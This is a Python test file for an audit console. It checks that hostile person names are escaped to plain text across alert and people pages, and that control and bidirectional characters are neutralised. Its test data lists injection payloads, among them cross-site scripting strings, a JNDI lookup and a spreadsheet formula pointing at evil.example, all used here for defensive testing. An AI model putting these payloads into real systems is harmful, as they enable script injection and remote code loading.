"""Hostile names on every page that shows one (promises F91, F92)."""

from datetime import UTC, datetime

import pytest

from audit_store.alerts import Signal
from audit_store.event import Phase
from console.render import FOREIGN_MAX, foreign, whole
from policies.request import Action
from tests.services.console import Pages, deed

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "%s %(name)s %n",
    "${jndi:ldap://evil.example}",
    '=HYPERLINK("http://evil.example")',
    "A" * 190,
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_only_text_everywhere(pages: Pages, name: str):
    owner = pages.add("Oskar Brandt", "owner")
    person = pages.services.people.add(name, "x@firma.example", ["manager"], "de", ["x"])
    at = datetime.now(UTC)
    (logged,) = pages.record(deed(person, Action.EXPORT, Phase.HELD, range(3_000), at=at, act_id="a1"))
    event_id = logged.document["event"]["id"]
    numbers: dict[str, int | str] = {"asked": 3_000, "share": 100}
    signal = Signal("mass_export", person.pseudonym, at, "high", "export_stopped", numbers, (event_id,))
    alert = pages.services.alerts.raise_or_grow(signal)
    pages.hold(person)
    client = pages.client(owner)
    escaped = str(foreign(name)).removeprefix("<bdi>").removesuffix("</bdi>")
    for path in ("/alerts", f"/alerts/{alert.id}", "/people", f"/people/{person.id}", "/why/a1", "/act/act-1"):
        answer = client.get(path)
        assert answer.status_code == 200, path
        assert "<script>alert" not in answer.text, path
        assert "<img" not in answer.text, path
        assert escaped in answer.text, path


@pytest.mark.parametrize("control", ["\u202e", "\u2066", "\u200f", "\x00", "\x1b", "\r", "\n", "\u2028"])
def test_a_control_character_is_shown_as_a_box_and_turns_nothing_round(control: str):
    assert str(foreign(f"a{control}b")) == "<bdi>a\ufffdb</bdi>"


def test_a_long_word_is_cut_visibly():
    shown = str(foreign("x" * 10_000))
    assert shown == f"<bdi>{'x' * FOREIGN_MAX}…</bdi>"


def test_other_scripts_stay_as_they_are():
    assert str(foreign("Дмитрий Сергеев")) == "<bdi>Дмитрий Сергеев</bdi>"


def test_a_foreign_word_in_what_a_key_signs_keeps_its_direction_to_itself() -> None:
    assert str(whole("key 1: locked, called “\u2068א <b>\u2069”")) == "<bdi>key 1: locked, called “<bdi>א &lt;b&gt;</bdi>”</bdi>"
    for text in ("a\u2069b", "a\u2068b", "a\u2068\u2067b\u2069"):
        assert "<bdi>a\ufffd" in str(whole(text)), "whoever writes only half of it turns nothing round"
    assert str(whole("x" * 10_000)) == f"<bdi>{'x' * 10_000}</bdi>"
